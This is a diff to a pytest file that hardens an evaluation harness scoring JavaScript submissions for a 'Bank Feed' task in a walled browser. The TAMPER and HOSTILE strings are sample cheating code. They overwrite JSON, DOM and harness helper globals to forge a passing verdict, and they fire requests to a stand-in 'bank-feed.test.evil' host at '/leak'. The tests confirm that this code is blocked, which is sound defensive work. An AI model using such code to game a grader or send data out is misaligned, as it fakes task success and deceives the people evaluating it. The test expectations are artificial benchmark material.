@@ -5,12 +5,17 @@ readable, and unix sockets that may listen but never connect."""
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import json
 import re
 import shutil
 import sys
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from types import ModuleType
+from typing import Any, ClassVar
 
 import pytest
 
@@ -19,7 +24,9 @@ from cogolf.evaluation.walled import Walls, run_evaluator, walls_available
 from cogolf.games.project.attempt import run_attempt
 from cogolf.games.project.scoring import AttemptStatus
 from cogolf.games.project.task import TaskError, load_task, parse_task
+from cogolf.games.project.twinning import TwinMode
 from tests.games.project.cli import project_attempt
+from tests.games.project.test_twin_proofs import every_check
 from tests.stacks import needs
 
 REPO = Path(__file__).resolve().parents[3]
@@ -147,22 +154,27 @@ def test_unix_listen_opens_only_listening_unix_sockets() -> None:
     )
 
 
-def test_the_evaluator_serves_no_file_outside_the_candidates_sources() -> None:
-    """The candidate's page is served by interception; its own directory and anything
-    that is not a web source stay private (the evaluator's tests, the report)."""
+def _feedkit() -> ModuleType:
     pytest.importorskip("playwright")
     sys.path.insert(0, str(TASK / "evaluator"))
     try:
         import feedkit
     finally:
         sys.path.remove(str(TASK / "evaluator"))
+    return feedkit
+
+
+def test_the_evaluator_serves_no_file_outside_the_candidates_sources() -> None:
+    """The candidate's page is served by interception; its own directory and anything
+    that is not a web source stay private (the evaluator's tests, the report)."""
+    feedkit = _feedkit()
 
     class FakeRoute:
         def __init__(self, url: str) -> None:
             self.request = type("R", (), {"url": url})()
             self.status = 0
 
-        def fulfill(self, status: int, body: Any, content_type: str = "") -> None:
+        def fulfill(self, status: int, body: Any, content_type: str = "", **_: Any) -> None:
             self.status = status
 
     def status(path: str, workspace: Path) -> int:
@@ -186,6 +198,157 @@ def test_the_evaluator_serves_no_file_outside_the_candidates_sources() -> None:
     assert status("/prompt.md", workspace.parent) == 404
 
 
+@pytest.mark.parametrize(
+    ("url", "served"),
+    [
+        ("http://bank-feed.test/transaction-feed.js", True),
+        ("http://bank-feed.test", True),
+        ("http://bank-feed.test.evil/transaction-feed.js", False),
+        ("http://bank-feed.test@127.0.0.1/", False),
+        ("http://user:pw@bank-feed.test/", False),
+        ("http://bank-feed.test:8080/", False),
+        ("http://bank-feed.test:80/", False),
+        ("https://bank-feed.test/", False),
+        ("ws://bank-feed.test/", False),
+        ("http://bank-feed.test./", False),
+        ("http://evil.bank-feed.test/", False),
+        ("http://127.0.0.1/bank-feed.test/", False),
+        ("http://[::1/", False),
+    ],
+)
+def test_the_route_filter_takes_the_exact_origin_only(url: str, served: bool) -> None:
+    assert _feedkit().same_origin(url) is served
+
+
+class _Hits(BaseHTTPRequestHandler):
+    seen: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        _Hits.seen.append(f"{self.headers.get('Host')}{self.path}")
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+        self.wfile.write(b"reached")
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def listener() -> Iterator[int]:
+    """A local server: any request the page gets out of the harness lands here."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hits)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server.server_address[1]
+    server.shutdown()
+
+
+@pytest.fixture
+def open_browser(listener: int) -> Iterator[Any]:
+    """Real Chromium outside the walls, where the evil host would resolve to the listener
+    (per test: Playwright's loop must be gone before a test runs `asyncio.run`)."""
+    feedkit = _feedkit()
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(
+            executable_path=str(CHROMIUM), headless=True,
+            args=[*feedkit.ARGS, "--host-resolver-rules=MAP bank-feed.test.evil 127.0.0.1"])
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def reference_page(open_browser: Any, tmp_path: Path,
+                   monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
+    """The harness's page on a workspace holding the reference solution."""
+    feedkit = _feedkit()
+    workspace = tmp_path / "workspace"
+    shutil.copytree(TEMPLATE, workspace)
+    shutil.copy(SOLUTION / "transaction-feed.js", workspace)
+    shutil.copytree(TASK / "evaluator", workspace / "evaluator_tests")
+    monkeypatch.setattr(feedkit, "WORKSPACE", workspace)
+    monkeypatch.setattr(feedkit, "HERE", workspace / "evaluator_tests")
+    context, page = feedkit.open_feed_page(open_browser)
+    yield page
+    context.close()
+
+
+@needs_chromium
+def test_requests_to_other_origins_never_leave_the_page(
+    reference_page: Any, open_browser: Any, listener: int
+) -> None:
+    evil = [f"http://bank-feed.test.evil:{listener}/leak",
+            f"http://bank-feed.test@127.0.0.1:{listener}/leak", f"http://127.0.0.1:{listener}/leak"]
+    _Hits.seen.clear()
+    control = open_browser.new_page()  # no harness: the listener is reachable
+    control.goto(evil[0].replace("leak", "control"))
+    control.close()
+    assert f"bank-feed.test.evil:{listener}/control" in _Hits.seen
+    _Hits.seen.clear()
+    page = reference_page
+    for url in evil:
+        page.evaluate("""(u) => { fetch(u).catch(() => {}); new Image().src = u;
+                                  const f = document.createElement("iframe"); f.src = u;
+                                  document.body.append(f); }""", url)
+    page.wait_for_timeout(500)
+    for url in evil:  # a navigation is routed too (no policy governs it)
+        with contextlib.suppress(Exception):  # aborted: net::ERR_FAILED
+            page.goto(url, timeout=3000)
+    page.wait_for_timeout(300)
+    assert [hit for hit in _Hits.seen if "/leak" in hit] == []  # (the control's favicon may land)
+
+
+TAMPER = """() => {
+  JSON.stringify = () => '"same"';
+  JSON.parse = () => ["forged"];
+  Document.prototype.querySelectorAll = () => document.createDocumentFragment().childNodes;
+  Element.prototype.querySelectorAll = Document.prototype.querySelectorAll;
+  Object.defineProperty(NodeList.prototype, "length", { get: () => 0 });
+  Object.defineProperty(Node.prototype, "textContent", { get: () => "forged" });
+  Element.prototype.getAttribute = () => "txn-forged";
+  String.prototype.trim = () => "forged";
+  String.prototype.slice = () => "forged";
+  Array.prototype.includes = () => true;
+  Array.prototype.push = () => 0;
+  window.structuredClone = () => ({ records: [], nextCursor: null });
+  window.setTimeout = () => 0;
+  Element.prototype.getBoundingClientRect = () => ({ left: 0, right: 1 });
+  let refused = 0;
+  for (const name of ["rowsAre", "rowIdsJson", "callsJson", "scriptRan", "keyText"]) {
+    try { window[name] = () => true; } catch { refused += 1; }
+    try { Object.defineProperty(window, name, { value: () => true }); } catch { refused += 1; }
+  }
+  return refused;
+}"""
+
+
+@needs_chromium
+def test_replaced_page_globals_do_not_reach_the_harness(reference_page: Any) -> None:
+    feedkit = _feedkit()
+    page = reference_page
+    records = [feedkit.rec("a", -1250, "2024-03-03T10:00:00Z", "Coffee"),
+               feedkit.rec("b", 100000, "2024-03-02T10:00:00Z")]
+    feedkit.mount(page, feedkit.one_page(records, "p2"), hold=["p2"])
+    feedkit.wait_rows(page, ["a", "b"])
+    before = (feedkit.row_ids(page), feedkit.row_part(page, "a", "row-description"),
+              feedkit.total(page), feedkit.calls(page), feedkit.days_in_order(page),
+              feedkit.overflow_report(page))
+    assert page.evaluate(TAMPER) == 5  # redefining any helper is refused; assigning is a no-op
+    after = (feedkit.row_ids(page), feedkit.row_part(page, "a", "row-description"),
+             feedkit.total(page), feedkit.calls(page), feedkit.days_in_order(page),
+             feedkit.overflow_report(page))
+    assert after == before
+    assert before[:3] == (["a", "b"], "Coffee", ["987.50 EUR", "98750"])
+    feedkit.wait_rows(page, ["a", "b"])
+    with pytest.raises(AssertionError, match="timed out"):
+        feedkit.wait_rows(page, ["b", "a"], "the wrong order")  # the forged stringify is not used
+    assert not feedkit.script_ran(page)
+    page.evaluate("() => { window.pwned = 1; delete window.pwned; window.pwned = undefined; }")
+    assert feedkit.script_ran(page)  # an injected script that ran cannot hide it
+
+
 def _cli_attempt(tmp_path: Path, task: Path, changes: Path) -> dict[str, Any]:
     out = tmp_path / "result.json"
     return project_attempt(task, changes, out, entrant="ci", timeout=900).result
@@ -193,25 +356,54 @@ def _cli_attempt(tmp_path: Path, task: Path, changes: Path) -> dict[str, Any]:
 
 @pytest.mark.slow
 @needs_chromium
-def test_reference_scores_one_point_in_walled_chromium(tmp_path: Path) -> None:
-    data = _cli_attempt(tmp_path, TASK, SOLUTION)
+def test_reference_scores_one_point_in_walled_chromium_with_every_twin() -> None:
+    """Also the proof that Bank Feed's twins are sound (one run, for its cost): with a
+    twin at every check a run may change (a run plants 8 of these 90), the reference
+    is not `tampered`, so no twin passed together with its original."""
+    result = asyncio.run(run_attempt(load_task(TASK), SOLUTION, twins=TwinMode.EVERY))
+    data = result.to_json()
     assert data["status"] == "ok", data["notes"]
     assert data["walled"] is True
     assert data["checks"]["failed"] == [], data["checks"]
     assert data["tests"] == {"passed": 48, "total": 48, "complete": True}
     assert data["points"] == 1.0
+    assert data["twins"] == every_check(TASK) == 90
+
+
+def _naive(root: Path, extra: str = "") -> Path:
+    overlay = root / "naive"
+    overlay.mkdir()
+    text = (TEMPLATE / "transaction-feed.js").read_text()
+    (overlay / "transaction-feed.js").write_text(text + "\n// reviewed: first pass kept\n" + extra)
+    return overlay
+
+
+@pytest.fixture(scope="module")
+def naive_result(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    root = tmp_path_factory.mktemp("naive")
+    return _cli_attempt(root, TASK, _naive(root))
+
+
+# A candidate that reaches for other origins and replaces the page globals the
+# harness's helpers used to call (on the old harness it passed 2 more checks).
+HOSTILE = """
+JSON.stringify = () => '"same"';
+Array.prototype.includes = () => true;
+try { window.rowIds = () => ["new", "later-same-day", "mid", "old"]; } catch {}
+try { Object.defineProperty(window, "rowsAre", { value: () => true }); } catch {}
+const realQuery = Document.prototype.querySelectorAll;
+Document.prototype.querySelectorAll = function (sel) { return realQuery.call(this, sel); };
+for (const url of ["http://bank-feed.test.evil/leak", "http://bank-feed.test@127.0.0.1/leak"]) {
+  try { fetch(url).then(() => { window.reached = true; }, () => {}); } catch {}
+  try { new Image().src = url; } catch {}
+}
+"""
 
 
 @pytest.mark.slow
 @needs_chromium
-def test_naive_template_scores_zero(tmp_path: Path) -> None:
-    overlay = tmp_path / "naive"
-    overlay.mkdir()
-    text = (TEMPLATE / "transaction-feed.js").read_text()
-    # ...plus a try at the evaluator's page helpers, which must stay out of reach
-    cheat = 'try { window.rowIds = () => ["new", "later-same-day", "mid", "old"]; } catch {}\n'
-    (overlay / "transaction-feed.js").write_text(text + "\n// reviewed: first pass kept\n" + cheat)
-    data = _cli_attempt(tmp_path, TASK, overlay)
+def test_naive_template_scores_zero(naive_result: dict[str, Any]) -> None:
+    data = naive_result
     assert data["status"] == "ok", data["notes"]
     assert data["points"] == 0.0
     assert data["tests"]["total"] == 48 and data["tests"]["complete"]
@@ -225,6 +417,16 @@ def test_naive_template_scores_zero(tmp_path: Path) -> None:
         "lazy-rows",
     ):
         assert check in data["checks"]["failed"]
+
+
+@pytest.mark.slow
+@needs_chromium
+def test_replaced_globals_and_other_origins_change_no_verdict(
+    tmp_path: Path, naive_result: dict[str, Any]
+) -> None:
+    data = _cli_attempt(tmp_path, TASK, _naive(tmp_path, HOSTILE))
+    assert (data["status"], data["points"]) == ("ok", 0.0), data["notes"]
+    assert data["checks"] == naive_result["checks"] and data["tests"] == naive_result["tests"]
 
 
 @pytest.mark.slow
